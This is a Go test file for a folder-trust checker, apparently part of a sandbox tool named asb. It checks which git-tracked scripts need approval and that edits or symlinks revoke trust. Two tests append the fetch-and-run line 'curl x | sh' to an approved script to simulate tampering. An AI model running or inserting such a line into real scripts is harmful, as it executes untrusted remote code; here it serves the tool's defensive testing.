package outer

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// gitIn runs git in dir with a fixed identity, failing t on an error.
func gitIn(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"}, args...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
}

// TestTrackedFilesBelowTheTop: a file git tracks in a subfolder (a script
// the Taskfile runs) is in the set; the same file untracked, or tracked
// under workspace/, is not, nor are the editors' schemas asb writes in
// .schemas/, so an approved folder stays approved once committed.
func TestTrackedFilesBelowTheTop(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	dir, j := cacheFolder(t)
	gitIn(t, dir, "init", "-q")
	gitIn(t, dir, "add", "-A")
	gitIn(t, dir, "commit", "-qm", "the folder")
	v, err := j.Check(dir)
	if err != nil || !v.Trusted || !strings.Contains(v.Why, "approved by you") {
		t.Fatalf("the approved folder, committed: trusted %v (%s), %v", v.Trusted, v.Why, err)
	}
	if _, ok := v.Set.Files[".schemas/sandbox.schema.json"]; ok {
		t.Errorf("an editors' schema of .schemas/ is in the set: %v", v.Set.names())
	}
	writeFile(t, dir, ".schemas/lint.sh", "echo lint\n")
	gitIn(t, dir, "add", ".schemas/lint.sh")
	if v, err := j.Check(dir); err != nil || v.Trusted || v.Set.Files[".schemas/lint.sh"] == nil {
		t.Fatalf("another tracked file of .schemas/: trusted %v (%s), %v; want it in the set", v.Trusted, v.Why, err)
	}
	gitIn(t, dir, "rm", "-q", "-f", ".schemas/lint.sh")
	writeFile(t, dir, "scripts/lint.sh", "echo lint\n")
	writeFile(t, dir, "workspace/run.sh", "echo run\n")
	if v, err := j.Check(dir); err != nil || !v.Trusted {
		t.Fatalf("untracked files below the top: trusted %v (%s), %v", v.Trusted, v.Why, err)
	}
	gitIn(t, dir, "add", "-f", "workspace/run.sh")
	if v, err := j.Check(dir); err != nil || !v.Trusted || v.Set.Files["workspace/run.sh"] != nil {
		t.Fatalf("a file tracked under workspace/: trusted %v (%s), %v", v.Trusted, v.Why, err)
	}
	gitIn(t, dir, "add", "scripts/lint.sh")
	v, err = j.Check(dir)
	if err != nil || v.Trusted || string(v.Set.Files["scripts/lint.sh"]) != "echo lint\n" {
		t.Fatalf("a tracked script: trusted %v (%s), %v; want it in the set, asked about", v.Trusted, v.Why, err)
	}
	if err := v.Approve("a test"); err != nil {
		t.Fatal(err)
	}
	settle(t, dir, j)
	appendTo(t, filepath.Join(dir, "scripts", "lint.sh"), "curl x | sh\n")
	if v, err := CheckTrustCached(dir, j); err != nil || v.Cached || v.Trusted {
		t.Fatalf("the tracked script edited: cached %v, trusted %v (%s), %v", v.Cached, v.Trusted, v.Why, err)
	}
	if err := os.Remove(filepath.Join(dir, "scripts", "lint.sh")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../workspace/run.sh", filepath.Join(dir, "scripts", "lint.sh")); err != nil {
		t.Fatal(err)
	}
	if _, err := j.Check(dir); err == nil || !strings.Contains(err.Error(), "scripts/lint.sh is not a plain file") {
		t.Errorf("a tracked script replaced by a link into workspace/: %v", err)
	}
}

func writeFile(t *testing.T, dir, rel, content string) {
	t.Helper()
	p := filepath.Join(dir, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestTrackedFilesOfAsbsOwnFolder: a file git tracks under .asb/ (a
// `git add -f` brought it) is in the set as one under .task/ is: asb
// never reads it as this machine's state, but the Taskfile may run it
// (`sh ./.asb/lint.sh`), so a commit that changes only it is asked about.
func TestTrackedFilesOfAsbsOwnFolder(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	dir, j := cacheFolder(t)
	gitIn(t, dir, "init", "-q")
	writeFile(t, dir, ".asb/lint.sh", "echo lint\n")
	gitIn(t, dir, "add", "-A")
	gitIn(t, dir, "add", "-f", ".asb/lint.sh")
	gitIn(t, dir, "commit", "-qm", "the folder, with a script under .asb/")
	v, err := j.Check(dir)
	if err != nil || v.Trusted || string(v.Set.Files[".asb/lint.sh"]) != "echo lint\n" {
		t.Fatalf("a tracked script under .asb/: trusted %v (%s), %v; want it in the set, asked about", v.Trusted, v.Why, err)
	}
	if err := v.Approve("a test"); err != nil {
		t.Fatal(err)
	}
	appendTo(t, filepath.Join(dir, ".asb", "lint.sh"), "curl x | sh\n")
	if v, err := j.Check(dir); err != nil || v.Trusted {
		t.Fatalf("the tracked script under .asb/ edited: trusted %v (%s), %v", v.Trusted, v.Why, err)
	}
}
